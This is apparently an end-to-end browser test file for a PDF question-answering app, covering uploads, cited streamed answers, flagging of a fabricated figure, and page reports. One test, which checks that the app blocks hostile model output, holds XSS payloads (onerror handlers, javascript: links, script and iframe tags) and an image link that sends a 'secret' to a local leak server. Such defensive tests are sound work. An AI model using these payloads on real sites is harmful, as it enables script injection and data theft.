/**
 * End-to-end in a real browser (Debian chromium via playwright-core) against a real server with a temporary
 * DATA_DIR and the fake chat endpoint: upload, ready, ask, streamed answer with citation chips, click → viewer
 * on the cited page with a highlight; hostile model output never executes or loads; a non-PDF shows its error.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import type { Source, Verification } from '@pagewise/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../support/browser.js';
import { ensureClient } from '../support/client-build.js';
import { fixtureFile } from '../support/fixtures.js';
import { startFakeLlm, type FakeLlm } from '../support/fake-llm.js';
import { startTestServer, type TestServer } from '../support/server.js';

let server: TestServer;
let llm: FakeLlm;
let browser: Awaited<ReturnType<typeof launchBrowser>>;
let page: Page;
let leak: http.Server;
let leakHits = 0;
let leakUrl = '';

beforeAll(async () => {
  ensureClient();
  leak = http.createServer((_req, res) => {
    leakHits++;
    res.end('x');
  });
  await new Promise<void>((r) => leak.listen(0, '127.0.0.1', r));
  leakUrl = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
  llm = await startFakeLlm();
  server = await startTestServer({ LLM_BASE_URL: llm.baseUrl, LLM_MODEL: 'deepseek-reasoner', INGEST_WORKERS: '2' });
  browser = await launchBrowser();
  page = browser.context.pages()[0] ?? (await browser.context.newPage());
  await page.goto(server.url);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await llm?.close();
  await new Promise<void>((r) => leak.close(() => r()));
});

async function ask(p: Page, question: string) {
  await p.fill('#question', question);
  await p.keyboard.press('Enter');
}

describe('the web app', () => {
  it('uploads two PDFs, streams a cited answer and opens the cited page with a highlight', async () => {
    await page.setInputFiles('[data-testid="file-input"]', [fixtureFile('ntsb', '20071229X02007.pdf'), fixtureFile('ntsb', '20080102X00002.pdf')]);
    await expect.poll(() => page.locator('.doc[data-status="ready"]').count(), { timeout: 60_000 }).toBe(2);

    const sources = await (await fetch(`${server.url}/api/search`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: 'pilot misjudged clearance trees utility wires final approach', k: 3 }),
    })).json() as { results: { documentName: string; page: number }[] };
    expect(sources.results.length).toBeGreaterThan(0);

    llm.next({
      kind: 'ok',
      reasoning: 'Passage 1 describes the approach.',
      content: 'The airplane contacted **trees** and then utility wires during final approach [1]. The pilot misjudged the clearance [1].',
      tokenDelayMs: 40,
    });
    await ask(page, 'What did the airplane hit on final approach?');
    // Streaming: the answer is visible while the message is still busy.
    await page.waitForSelector('.msg.assistant[aria-busy="true"] .markdown p', { timeout: 20_000 });
    await page.waitForSelector('.msg.assistant[aria-busy="false"] .cite', { timeout: 20_000 });
    expect(await page.locator('.msg.assistant .markdown strong').first().textContent()).toBe('trees');
    expect(await page.locator('.thinking summary').textContent()).toContain('Thinking');

    const chip = page.locator('.msg.assistant .cite').first();
    const label = await chip.getAttribute('aria-label');
    const match = /p\. (\d+)/.exec(label ?? '');
    expect(match).not.toBeNull();
    await chip.click();
    const viewerPage = page.locator('.viewer .pdf-page');
    await expect.poll(async () => Number(await viewerPage.getAttribute('data-highlighted')), { timeout: 30_000 }).toBeGreaterThan(0);
    expect(await viewerPage.getAttribute('data-page')).toBe(match![1]);
    // The claim is supported by its passage: exactly the supporting span is marked.
    expect(await page.locator('.viewer .textLayer mark.pw-span').count()).toBeGreaterThan(0);
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('.viewer').count()).toBe(0);
  });

  it('marks a fabricated figure in the answer and highlights exactly the span that supports the true one, also after a reload', async () => {
    const question = 'How much flight experience did the pilot of the Piper PA-22-150 have?';
    const res = await fetch(`${server.url}/api/search`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: question, k: 8 }) });
    const { results } = (await res.json()) as { results: Source[] };
    const n = results.findIndex((r) => r.text.includes('2,319 hours')) + 1;
    expect(n).toBeGreaterThan(0);
    await page.getByRole('button', { name: 'New chat' }).click();
    await expect.poll(() => page.locator('.msg').count()).toBe(0);
    llm.next({ kind: 'ok', content: `The pilot reported a total flight experience of 2,319 hours [${n}]. He had logged 999,999,999 hours in the accident airplane [${n}].`, tokenDelayMs: 5 });
    await ask(page, question);
    const answer = page.locator('.msg.assistant').last();
    await answer.locator('.claim-counts').waitFor({ timeout: 20_000 });
    expect(await answer.locator('.claim-counts').textContent()).toBe('2 claims checked: 1 supported · 1 not supported');

    // The fabricated claim is marked and says why; the true one is not marked; no text was removed.
    const bad = answer.locator('.claim-unsupported');
    expect((await bad.allTextContents()).join('')).toContain('He had logged 999,999,999 hours in the accident airplane');
    expect(await bad.first().getAttribute('title')).toBe(`Not supported: the number 999,999,999 is not in passage ${n}.`);
    expect(await answer.locator('.claim-flag').filter({ hasText: '2,319' }).count()).toBe(0);

    // Its chip opens the viewer with exactly the supporting span highlighted, where the chunk sits on its page.
    const conversations = (await (await fetch(`${server.url}/api/conversations`)).json()) as { conversations: { id: string }[] };
    const stored = (await (await fetch(`${server.url}/api/conversations/${conversations.conversations[0]!.id}`)).json()) as {
      conversation: { messages: { verification: Verification | null; citations: Source[] }[] };
    };
    const { verification, citations } = stored.conversation.messages[1]!;
    const support = verification!.claims[0]!.support!;
    expect(support.quote).toContain('2,319 hours');
    const chunk = citations.find((c) => c.n === n)!;
    expect(support.quote.length).toBeLessThan(chunk.text.length / 2);
    await answer.locator(`.cite[data-support="${support.charStart}-${support.charEnd}"]`).click();
    const viewerPage = page.locator('.viewer .pdf-page');
    await expect.poll(async () => Number(await viewerPage.getAttribute('data-highlighted')), { timeout: 30_000 }).toBeGreaterThan(0);
    const squashAll = (t: string) => t.normalize('NFKC').toLowerCase().replace(/\s+/g, '');
    const marked = (await page.locator('.viewer .textLayer mark.pw-span').allTextContents()).join('');
    expect(squashAll(marked)).toBe(squashAll(support.quote));
    expect(await page.locator('.viewer .textLayer .pw-highlight').count()).toBe(0);
    const pageText = ((await (await fetch(`${server.url}/api/documents/${chunk.documentId}/pages/${chunk.page}`)).json()) as { page: { text: string } }).page.text;
    const [from, to] = [Number(await viewerPage.getAttribute('data-span-start')), Number(await viewerPage.getAttribute('data-span-end'))];
    expect(pageText.slice(from, to)).toBe(support.quote);
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('.viewer').count()).toBe(0);

    // A reloaded chat shows the same marks.
    await page.reload();
    await page.locator('.conv-title', { hasText: question.slice(0, 30) }).first().click();
    const reloaded = page.locator('.msg.assistant').last();
    await reloaded.locator('.claim-unsupported').first().waitFor({ timeout: 10_000 });
    expect(await reloaded.locator('.claim-unsupported').first().getAttribute('title')).toBe(`Not supported: the number 999,999,999 is not in passage ${n}.`);
    expect(await reloaded.locator('.claim-counts').textContent()).toBe('2 claims checked: 1 supported · 1 not supported');
  });

  it('never executes or loads hostile markup from the model, during or after streaming', async () => {
    await page.evaluate(() => ((window as unknown as { __x?: number }).__x = undefined));
    const hostile = [
      'Here is data <img src=x onerror="window.__x=1"> and more [1].',
      `![a" onerror="window.__x=2](x) and ![leak](${leakUrl}/leak?d=secret)`,
      '[click me](javascript:window.__x=3) <script>window.__x=4</script>',
      `<a href="javascript:window.__x=5">x</a> <iframe src="${leakUrl}/frame"></iframe>`,
    ].join('\n\n');
    await page.getByRole('button', { name: 'New chat' }).click();
    await expect.poll(() => page.locator('.msg').count()).toBe(0);
    llm.next({ kind: 'ok', content: hostile, tokenDelayMs: 15, chunkSize: 4 });
    await ask(page, 'Show me everything');
    const busy = page.locator('.msg.assistant[aria-busy="true"]');
    await busy.first().waitFor({ timeout: 10_000 });
    // During streaming.
    for (let i = 0; i < 10; i++) {
      expect(await page.evaluate(() => (window as unknown as { __x?: number }).__x)).toBeUndefined();
      await page.waitForTimeout(50);
    }
    await expect.poll(() => busy.count(), { timeout: 20_000 }).toBe(0);
    const last = page.locator('.msg.assistant').last();
    expect(await last.textContent()).toContain('Here is data');
    // Links that remain must not be javascript:, and nothing can be clicked into running code.
    for (const a of await last.locator('a').all()) expect(await a.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
    const clickable = last.getByText('click me');
    if (await clickable.count()) await clickable.first().click();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { __x?: number }).__x)).toBeUndefined();
    expect(await last.locator('img, script, iframe').count()).toBe(0);
    expect(leakHits).toBe(0);
  });

  it('marks a document with unreadable pages in the library and shows its page report', async () => {
    await page.setInputFiles('[data-testid="file-input"]', [fixtureFile('pdfjs', 'bug1539074.pdf')]);
    const doc = page.locator('.doc', { hasText: 'bug1539074.pdf' });
    await expect.poll(() => doc.getAttribute('data-status'), { timeout: 60_000 }).toBe('ready');
    expect(await doc.locator('.badge.warn').textContent()).toBe('⚠ 1 page flagged');
    await doc.getByRole('button', { name: 'Pages' }).click();
    const row = doc.locator('.page-report tbody tr');
    await row.first().waitFor({ timeout: 15_000 });
    expect(await row.count()).toBe(1);
    expect(await row.first().getAttribute('class')).toBe('flagged');
    expect(await row.first().locator('td').nth(2).textContent()).toBe('text');
    expect(await row.first().locator('.warning').textContent()).toContain('mostly one repeated character');
    // A clean document has no badge.
    expect(await page.locator('.doc', { hasText: '20071229X02007.pdf' }).locator('.badge.warn').count()).toBe(0);
  });

  it('explains why a non-PDF upload was refused', async () => {
    await page.setInputFiles('[data-testid="file-input"]', {
      name: 'holiday.pdf',
      mimeType: 'application/pdf',
      buffer: Buffer.from('\x89PNG\r\n\x1a\n not really a pdf'),
    });
    const err = page.locator('.uploads .error');
    await err.waitFor({ timeout: 15_000 });
    expect(await err.textContent()).toContain('not a PDF');
  });
});
